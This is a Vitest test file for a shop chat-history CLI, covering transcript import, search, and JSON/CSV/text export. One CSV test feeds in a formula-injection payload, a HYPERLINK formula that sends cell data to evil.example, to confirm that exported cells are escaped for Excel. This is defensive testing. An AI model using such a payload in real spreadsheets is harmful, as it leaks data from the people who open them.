import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { csvCell } from '../../main/packs/csv';

/**
 * `xiaoniu history` as its user runs it: a subprocess of the compiled `bin/xiaoniu.js` (run
 * `npm run build` first if this fails with "missing"). TZ pins the agent's time zone where the
 * database has no `timezone` setting.
 */
const root = path.resolve(__dirname, '..', '..');
const bin = path.join(root, 'bin', 'xiaoniu.js');
const DAY = path.join(root, 'fixtures', 'transcripts', 'shop-day.json');
const DAY_LINES = path.join(root, 'fixtures', 'transcripts', 'shop-day.jsonl');

function tmp(): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), 'xiaoniu-history-'));
}

function run(args: string[], env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [bin, 'history', ...args], {
    encoding: 'utf8',
    env: { ...process.env, XIAONIU_LANG: 'zh-CN', TZ: 'Asia/Shanghai', ...env },
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

function tables(db: string) {
  const d = new Database(db, { readonly: true });
  const n = (t: string) => d.prepare(`SELECT count(*) FROM ${t}`).pluck().get();
  const c = { buyer: n('buyer'), message: n('message'), order_event: n('order_event'), status_change: n('status_change'), conversation_close: n('conversation_close') };
  d.close();
  return c;
}

describe('xiaoniu history', () => {
  it('imports a transcript with --json, and the same file again adds nothing', () => {
    const db = path.join(tmp(), 'x.db');
    const first = run(['import', DAY, '--json', '--db', db]);
    expect(first.code, first.err).toBe(0);
    expect(JSON.parse(first.out)).toEqual({ buyers: 4, messages: 18, orders: 2, duplicates: 0 });
    expect(tables(db)).toEqual({ buyer: 4, message: 18, order_event: 2, status_change: 3, conversation_close: 2 });
    // The JSON Lines copy of the same day is the same events: all duplicates.
    const again = run(['import', DAY_LINES, '--json', '--db', db]);
    expect(JSON.parse(again.out)).toEqual({ buyers: 0, messages: 0, orders: 0, duplicates: 25 });
    expect(tables(db)).toEqual({ buyer: 4, message: 18, order_event: 2, status_change: 3, conversation_close: 2 });
    // Without --json: one sentence in the user's language.
    const plain = run(['import', DAY, '--db', db]);
    expect(plain.out).toMatch(/^已导入：新买家 0 位，消息 0 条.*重复 25 条未导入（JSON，时区 Asia\/Shanghai）。\n$/);
    expect(run(['import', DAY, '--db', db], { XIAONIU_LANG: 'en' }).out).toMatch(/^Imported 0 new buyers, 0 messages.*25 duplicates skipped/);
  });

  it('refuses a malformed file naming the event index: exit 2, {"error"}, nothing stored', () => {
    const dir = tmp();
    const db = path.join(dir, 'x.db');
    run(['import', DAY, '--db', db]);
    const before = tables(db);
    const events = [
      { at: '2026-03-02T09:00:00+08:00', type: 'buyer', buyer: 'new_buyer', nickname: '新客', text: '第一条新消息' },
      { at: '2026-03-02T09:00:05+08:00', type: 'order', buyer: 'new_buyer', amount: 10, paid: true },
      { at: '2026-03-02 09:01', type: 'buyer', buyer: 'new_buyer', text: '时间没有时区' },
    ];
    fs.writeFileSync(path.join(dir, 'bad.json'), JSON.stringify({ timezone: 'Asia/Shanghai', events }));
    const r = run(['import', path.join(dir, 'bad.json'), '--json', '--db', db]);
    expect(r.code).toBe(2);
    expect(Object.keys(JSON.parse(r.out))).toEqual(['error']);
    expect(JSON.parse(r.out).error).toContain('events[2]');
    expect(JSON.parse(r.out).error).toMatch(/[\u4e00-\u9fff]/);
    expect(r.err).toContain('history.badAt {"index":2');
    expect(tables(db)).toEqual(before);
    expect(JSON.parse(run(['search', '第一条新消息', '--json', '--db', db]).out)).toEqual([]);
    // Not a transcript at all (a phrase pack), and in English.
    fs.writeFileSync(path.join(dir, 'pack.csv'), '分组,快捷编码,短语内容\r\n售后,th,亲\r\n');
    const en = run(['import', path.join(dir, 'pack.csv'), '--db', db], { XIAONIU_LANG: 'en' });
    expect(en.code).toBe(2);
    expect(en.err).toMatch(/^This is not a chat history file/);
    expect(tables(db)).toEqual(before);
  });

  it('searches every conversation newest first: [{"buyer","at","sender","text"}], --limit caps', () => {
    const db = path.join(tmp(), 'x.db');
    run(['import', DAY, '--db', db]);
    const r = run(['search', '发货', '--json', '--db', db]);
    expect(r.code, r.err).toBe(0);
    expect(JSON.parse(r.out)).toEqual([
      { buyer: 'tb_8812', at: '2026-03-01T09:22:00+08:00', sender: 'buyer', text: '付好了，麻烦快点发货' },
      { buyer: 'tb_8812', at: '2026-03-01T09:22:30+08:00', sender: 'agent', text: '好的亲，已备注优先发货 /:^_^' },
      { buyer: 'tb_8812', at: '2026-03-01T09:14:35+08:00', sender: 'agent', text: '下午4点前付款当天发货，默认中通，需要顺丰请备注（补差价）' },
      { buyer: 'tb_8812', at: '2026-03-01T09:14:10+08:00', sender: 'buyer', text: '今天拍什么时候发货？发什么快递' },
    ].sort((a, b) => b.at.localeCompare(a.at)));
    expect(JSON.parse(run(['search', '亲', '--limit', '2', '--json', '--db', db]).out).map((h: { at: string }) => h.at)).toEqual([
      '2026-03-01T14:04:30+08:00',
      '2026-03-01T12:10:10+08:00',
    ]);
    // Terms on the command line are all required; the fold makes ＬＩＬＹ-style width and case irrelevant.
    expect(JSON.parse(run(['search', '两件', '便宜', '--json', '--db', db]).out).map((h: { buyer: string }) => h.buyer)).toEqual(['lily_2019']);
    expect(JSON.parse(run(['search', '599', '--json', '--db', db]).out)).toHaveLength(1);
    expect(JSON.parse(run(['search', '５９９', '--json', '--db', db]).out)).toHaveLength(1);
    // Another time zone, from the agent's setting: the same instants, another offset.
    const d = new Database(db);
    d.prepare(`INSERT INTO setting (key, value, updated_at) VALUES ('timezone', '"Europe/Berlin"', 0)`).run();
    d.close();
    expect(JSON.parse(run(['search', '换新吧', '--json', '--db', db]).out)[0].at).toBe('2026-03-01T07:05:12+01:00');
    // Plain output: a readable line per hit, the count on stderr.
    const plain = run(['search', '换新吧', '--db', db]);
    expect(plain.out).toBe('2026-03-01 07:05:12 [tb_5566 退货的张姐] 买家: 换新吧\n');
    expect(plain.err).toBe('共 1 条\n');
  });

  it('exports json that imports into an empty database and exports to the same bytes', () => {
    const dir = tmp();
    const a = path.join(dir, 'a.db');
    const b = path.join(dir, 'b.db');
    run(['import', DAY, '--db', a]);
    const first = run(['export', path.join(dir, 'a.json'), '--json', '--db', a]);
    expect(first.code, first.err).toBe(0);
    expect(JSON.parse(first.out)).toEqual({ exported: 25, file: path.join(dir, 'a.json'), format: 'json' });
    expect(JSON.parse(run(['import', path.join(dir, 'a.json'), '--json', '--db', b]).out)).toEqual({ buyers: 4, messages: 18, orders: 2, duplicates: 0 });
    run(['export', path.join(dir, 'b.json'), '--db', b]);
    const bytes = fs.readFileSync(path.join(dir, 'a.json'));
    expect(fs.readFileSync(path.join(dir, 'b.json')).equals(bytes)).toBe(true);
    // The export is the transcript format, with the agent's offset and nothing lost.
    const doc = JSON.parse(bytes.toString('utf8'));
    expect(doc.timezone).toBe('Asia/Shanghai');
    expect(doc.events).toEqual(JSON.parse(fs.readFileSync(DAY, 'utf8')).events.map((e: { auto?: boolean }) => e));
  });

  it('exports csv for Excel (BOM, formula cells escaped as phrase packs are) and txt as a chat log, filtered by buyer and day', () => {
    const dir = tmp();
    const db = path.join(dir, 'x.db');
    const nasty = '=HYPERLINK("http://evil.example/?q="&A1,"点我领券")';
    fs.writeFileSync(
      path.join(dir, 't.jsonl'),
      [
        '{"timezone":"Asia/Shanghai"}',
        JSON.stringify({ at: '2026-03-01T23:59:59+08:00', type: 'buyer', buyer: 'evil', nickname: '@admin', text: nasty }),
        JSON.stringify({ at: '2026-03-02T00:00:01+08:00', type: 'agent', buyer: 'evil', text: '-不要点陌生链接' }),
        JSON.stringify({ at: '2026-03-02T08:00:00+08:00', type: 'buyer', buyer: 'other', text: '在吗' }),
      ].join('\n'),
    );
    run(['import', path.join(dir, 't.jsonl'), '--db', db]);
    expect(run(['export', path.join(dir, 'h.csv'), '--buyer', 'evil', '--db', db]).code).toBe(0);
    const csv = fs.readFileSync(path.join(dir, 'h.csv'), 'utf8');
    expect(csv.startsWith('\ufeff时间（Asia/Shanghai）,买家,昵称,类型,内容\r\n')).toBe(true);
    const rows = csv.slice(1).split('\r\n');
    expect(rows[1]).toBe(['2026-03-01 23:59:59', 'evil', '@admin', '买家', nasty].map((c) => csvCell(c)).join(','));
    expect(rows[1]).toContain(`'=HYPERLINK(`);
    expect(rows[2]).toBe(`2026-03-02 00:00:01,evil,"'@admin",客服,"'-不要点陌生链接"`);
    expect(rows).toHaveLength(4);

    expect(run(['export', path.join(dir, 'day2.txt'), '--from', '2026-03-02', '--to', '2026-03-02', '--db', db]).code).toBe(0);
    expect(fs.readFileSync(path.join(dir, 'day2.txt'), 'utf8')).toBe(
      '\ufeff聊天记录（时区 Asia/Shanghai）\r\n\r\n==== 买家 evil（@admin） ====\r\n—— 2026-03-02 ——\r\n00:00:01 客服: -不要点陌生链接\r\n' +
        '\r\n==== 买家 other ====\r\n—— 2026-03-02 ——\r\n08:00:00 other: 在吗\r\n',
    );
    // A typo in --buyer is refused, not an empty file; no file is left behind.
    const typo = run(['export', path.join(dir, 'typo.json'), '--buyer', 'evi1', '--json', '--db', db]);
    expect(typo.code).toBe(2);
    expect(JSON.parse(typo.out).error).toContain('evi1');
    expect(fs.existsSync(path.join(dir, 'typo.json'))).toBe(false);
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('answers usage errors with exit 1 and the usage lines', () => {
    const r = run(['export']);
    expect(r.code).toBe(1);
    expect(r.err).toContain('xiaoniu history export FILE');
    expect(run(['search', 'x', '--limit', '0']).code).toBe(1);
    expect(run(['export', 'x.pdf', '--format', 'pdf']).code).toBe(1);
    expect(JSON.parse(run(['frobnicate', '--json']).out).error).toContain('frobnicate');
  });
});
